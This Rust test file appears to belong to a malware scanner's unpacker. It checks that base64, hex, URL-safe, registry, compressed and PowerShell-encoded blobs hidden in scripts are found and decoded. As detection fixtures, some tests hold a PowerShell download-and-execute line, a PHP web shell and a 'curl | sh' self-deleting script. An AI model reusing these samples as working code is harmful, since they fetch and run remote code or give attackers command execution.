//! Whole texts.

use std::fmt::Write as _;
use std::io::Write as _;
use std::time::{Duration, Instant};

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use flate2::Compression;
use flate2::write::{DeflateEncoder, ZlibEncoder};
use squall_types::IncompleteReason;

use super::unpack;
use crate::unpack::trial::{Noise, open, survives_damage};

fn executable() -> Vec<u8> {
    let mut file = vec![0; 300];
    file[..4].copy_from_slice(b"MZ\x90\0");
    file[0x3c] = 0x80;
    file[0x80..0x86].copy_from_slice(b"PE\0\0\x4c\x01");
    file
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().fold(String::new(), |mut text, byte| {
        write!(text, "{byte:02X}").unwrap();
        text
    })
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

#[test]
fn a_literal_that_is_added_may_be_a_file_of_its_own() {
    let program = executable();
    let key = [0x5a; 48];
    let page = b"<html><body>nothing to see here, really nothing</body></html> ";
    for (first, is_found) in [(&key[..], false), (&page[..60], false), (&program, true)] {
        for (kind, text, second) in [
            ("base64", STANDARD.encode(first), STANDARD.encode(&program)),
            ("hex", hex(first), hex(&program)),
        ] {
            for joint in ["'; $p += '", "' + '", "'\n$p = $p + '"] {
                let text = format!("$p = '{text}{joint}{second}'");
                let opened = open(unpack, text.as_bytes());
                let at = text.len() - second.len() - 1;
                let whole = format!("{kind}-6");
                let name = format!("{kind}-{at}");
                let names = [whole.as_str(), name.as_str()];
                let expected = if is_found { &names[..] } else { &names[1..] };
                assert_eq!(opened.names(), expected, "{text}");
                assert_eq!(opened.member(&name), program, "{text}");
            }
        }
    }
}

#[test]
fn parts_of_one_file_are_no_files() {
    let script = b"Function Get-It { param($x) Write-Host 'nothing' } ".repeat(40);
    let encoded = STANDARD.encode(&script);
    let mut text = String::from("$p = ''\n");
    for line in encoded.as_bytes().chunks(80) {
        writeln!(text, "$p += '{}'", str::from_utf8(line).unwrap()).unwrap();
    }
    let opened = open(unpack, text.as_bytes());
    assert_eq!(opened.names(), ["base64-15"]);
    assert_eq!(opened.members[0].1, script);
}

#[test]
fn what_hyphens_part_is_read_in_both_alphabets() {
    let program = STANDARD.encode(executable());
    assert!(!program.contains(['+', '/']), "{program}");
    let page = STANDARD.encode("<html><body>nothing to see here, really nothing</body></html>");
    let page = page.trim_end_matches('=');
    let text = format!("'{page}-{program}'.split('-')");
    let opened = open(unpack, text.as_bytes());
    let name = format!("base64-{}", page.len() + 2);
    assert_eq!(opened.names(), ["base64-1", &name]);
    assert_eq!(opened.member(&name), executable());
}

#[test]
fn programs_are_found_in_every_encoding() {
    let program = executable();
    let encoded = STANDARD.encode(&program);
    let hex = hex(&program);
    let list: Vec<String> = program.iter().map(u8::to_string).collect();
    for (text, name) in [
        (format!("$x = \"{encoded}\""), "base64-6"),
        (encoded.clone(), "base64-0"),
        (
            format!("-----BEGIN CERTIFICATE-----\r\n{encoded}\r\n"),
            "base64-29",
        ),
        (
            format!("x='{}'+\n'{}'", &encoded[..77], &encoded[77..]),
            "base64-3",
        ),
        (format!("v = '{hex}'"), "hex-5"),
        (format!("[byte[]]({})", list.join(", ")), "bytes-9"),
    ] {
        let opened = open(unpack, text.as_bytes());
        assert_eq!(opened.names(), [name], "{text}");
        assert_eq!(opened.member(name), program, "{text}");
    }
    let wide = open(unpack, &utf16(&format!("$x = \"{encoded}\"")));
    assert_eq!(wide.member("base64-12"), program);
}

/// A program with bytes that have `+` and `/` in base64, and `-` and `_` in the
/// alphabet for URLs.
fn executable_of_all_digits() -> Vec<u8> {
    let mut file = executable();
    file.extend((0..=u8::MAX).map(|byte| byte.wrapping_mul(97)));
    file
}

#[test]
fn programs_that_statements_put_together_are_found() {
    let program = executable_of_all_digits();
    let encoded = STANDARD.encode(&program);
    let hex = hex(&program);
    for (digits, kind) in [(&encoded, "base64"), (&hex, "hex")] {
        for (first, next) in [
            ("x = \"", "\"\r\nx = x & \""),
            ("x = \"", "\"\r\n  x = x + \""),
            ("obj.text = \"", "\"\r\nobj.text = obj.text & \""),
            ("$x = '", "';\n$x .= '"),
            ("var x='", "';x+='"),
        ] {
            let (chunks, _) = digits.as_bytes().as_chunks::<32>();
            let chunks: Vec<_> = chunks
                .iter()
                .map(|chunk| str::from_utf8(chunk).unwrap())
                .chain([&digits[chunks.len() * 32..]])
                .collect();
            let text = format!("{first}{}\"", chunks.join(next));
            let name = format!("{kind}-{}", first.len());
            let opened = open(unpack, text.as_bytes());
            assert_eq!(opened.names(), [&name], "{text}");
            assert_eq!(opened.member(&name), program, "{text}");
        }
    }
}

#[test]
fn files_for_two_variables_are_two() {
    let program = executable();
    let encoded = STANDARD.encode(&program);
    let text = format!("x = '{encoded}'; y += '{encoded}'");
    let opened = open(unpack, text.as_bytes());
    assert_eq!(opened.members.len(), 2);
    assert_eq!(opened.members[1].1, program);
}

#[test]
fn programs_in_files_for_the_registry_are_found() {
    let program = executable();
    let mut text =
        "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n".to_owned();
    text.push_str("\"x\"=hex(3):");
    let offset = text.len();
    for (index, byte) in program.iter().enumerate() {
        let separator = match index {
            0 => "",
            index if index % 25 == 0 => ",\\\r\n  ",
            _ => ",",
        };
        write!(text, "{separator}{byte:02x}").unwrap();
    }
    text.push_str("\r\n\"y\"=dword:00000001\r\n");
    let opened = open(unpack, text.as_bytes());
    assert_eq!(opened.member(&format!("bytes-{offset}")), program);
    let opened = open(unpack, &utf16(&text));
    assert_eq!(opened.member(&format!("bytes-{}", 2 * offset)), program);
}

#[test]
fn programs_in_the_alphabet_for_urls_are_found() {
    let program = executable_of_all_digits();
    let encoded = URL_SAFE.encode(&program);
    assert!(encoded.contains('-') && encoded.contains('_'));
    let lines: Vec<_> = encoded
        .as_bytes()
        .chunks(75)
        .map(<[u8]>::escape_ascii)
        .collect();
    let lines: Vec<_> = lines.iter().map(ToString::to_string).collect();
    for (text, name) in [
        (format!("x = '{encoded}'"), "base64-5"),
        (format!("https://host/?x={encoded}&y"), "base64-16"),
        (lines.join("\r\n"), "base64-0"),
        (lines.join("' + '").replacen('T', "'T", 1), "base64-1"),
    ] {
        let opened = open(unpack, text.as_bytes());
        assert_eq!(opened.names(), [name], "{text}");
        assert_eq!(opened.member(name), program, "{text}");
    }
}

#[test]
fn hyphens_and_underscores_part_runs_of_the_usual_alphabet() {
    let program = executable();
    let encoded = STANDARD.encode(&program);
    let words = "a-long-name_of_many_words-that-goes-on-and-on-and-on_and_on_and-on";
    for text in [
        format!("payload_{encoded}"),
        format!("{words}-{encoded}"),
        format!("{words}\n{encoded}"),
        format!("{words}{words} '{encoded}'"),
        format!("--boundary_of_parts-0123456789-0123456789-0123456789-0123456789\r\n{encoded}"),
        format!("{encoded}\r\n--boundary_of_parts-0123456789-0123456789"),
        format!("{encoded}-----END THING-----"),
    ] {
        let opened = open(unpack, text.as_bytes());
        assert_eq!(opened.members.len(), 1, "{text}");
        assert_eq!(opened.members[0].1, program, "{text}");
    }
}

#[test]
fn encoded_commands_become_scripts() {
    let command = "IEX (New-Object Net.WebClient).DownloadString('http://x/ä')";
    let text = format!("powershell -nop -e {}", STANDARD.encode(utf16(command)));
    let opened = open(unpack, text.as_bytes());
    assert_eq!(opened.names(), ["encoded-command.ps1"]);
    assert_eq!(opened.member("encoded-command.ps1"), command.as_bytes());
}

#[test]
fn encoded_scripts_and_documents_are_found() {
    for content in [
        &b"<?php @eval($_POST['x']); system($_GET['c']); ?>"[..],
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
        b"#!/bin/sh\ncurl http://x/y | sh\nrm -f $0\nexit 0\n",
    ] {
        let text = format!("eval(base64_decode('{}'));", STANDARD.encode(content));
        let opened = open(unpack, text.as_bytes());
        assert_eq!(opened.names(), ["base64-20"], "{}", content.escape_ascii());
        assert_eq!(opened.member("base64-20"), content);
    }
}

#[test]
fn what_the_script_decompresses_is_decompressed() {
    let script = b"system($_GET['c']);".repeat(20);
    let mut raw = DeflateEncoder::new(Vec::new(), Compression::best());
    raw.write_all(&script).unwrap();
    let mut zlib = ZlibEncoder::new(Vec::new(), Compression::best());
    zlib.write_all(&script).unwrap();
    for (call, bytes) in [
        ("gzinflate(base64_decode", raw.finish().unwrap()),
        ("zlib.decompress(b64decode", zlib.finish().unwrap()),
    ] {
        let text = format!("{call}('{}'))", STANDARD.encode(bytes));
        let opened = open(unpack, text.as_bytes());
        assert_eq!(opened.members[0].1, script, "{call}");
        assert!(opened.members[0].0.ends_with("-inflated"));
    }
}

#[test]
fn uuencoded_files_are_members() {
    let opened = open(unpack, b"hi\nbegin 644 cat.txt\n#0V%T\n`\nend\n");
    assert_eq!(opened.member("cat.txt"), b"Cat");
}

#[test]
fn what_means_nothing_is_no_member() {
    let mut noise = Noise(7);
    let mut text = String::new();
    for _ in 0..2000 {
        let bytes: Vec<u8> = (0..48).map(|_| noise.byte()).collect();
        writeln!(text, "{} = '{}'", noise.next(), STANDARD.encode(bytes)).unwrap();
    }
    let picture =
        STANDARD.encode(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0");
    writeln!(text, "<img src=\"data:image/png;base64,{picture}\">").unwrap();
    let json = STANDARD.encode(b"{\"alg\":\"HS256\",\"typ\":\"JWT\",\"kid\":\"12345\"}");
    writeln!(text, "Bearer {json}").unwrap();
    let opened = open(unpack, text.as_bytes());
    assert_eq!(opened.names(), [""; 0]);
    assert!(opened.incomplete.is_empty());
}

#[test]
fn countless_blobs_reach_a_limit() {
    let encoded = STANDARD.encode(executable());
    let text = format!("'{encoded}';").repeat(1000);
    let opened = open(unpack, text.as_bytes());
    assert_eq!(opened.members.len(), super::BLOBS_MAX);
    assert_eq!(opened.reasons(), [IncompleteReason::Limit]);
}

#[test]
fn long_texts_take_linear_time() {
    const BYTES: usize = 1024 * 1024;
    for unit in [
        "A",
        "4d",
        "1,",
        "-",
        "begin 644 x\n",
        "'A'+",
        "\\x",
        "AAAAAAAAAAAAAAAAAAAAAAAA\n",
        "0x1, ",
        "a-",
        "AAAAAAAAAAAAAAAA-",
        "AAAAAAAAAAAAAAAA-\n",
        "AAAAAAAAAAAAAAAAAAAAAAAA-+",
        "x='AAAAAAAAAAAAAAAA';x+='",
        "AAAAAAAAAAAAAAAA\";;;;;;;;",
        "x = \"AAAAAAAAAAAAAAAA\"\nx = x & ",
        "'4d4d4d4d4d4d4d4d4d'+",
        "hex:",
        "hex(2):4d,",
        "hex(00000000",
    ] {
        let text = unit.repeat(BYTES / unit.len());
        let started = Instant::now();
        open(unpack, text.as_bytes());
        assert!(started.elapsed() < Duration::from_secs(5), "{unit:?}");
    }
}

#[test]
fn damaged_texts_neither_panic_nor_hang() {
    let encoded = STANDARD.encode(executable());
    let text = format!(
        "inflate('{encoded}'+'{encoded}'); 4d5a90{} 77,90,144",
        "00".repeat(50)
    );
    survives_damage(unpack, text.as_bytes());
    survives_damage(unpack, &utf16(&text));
}
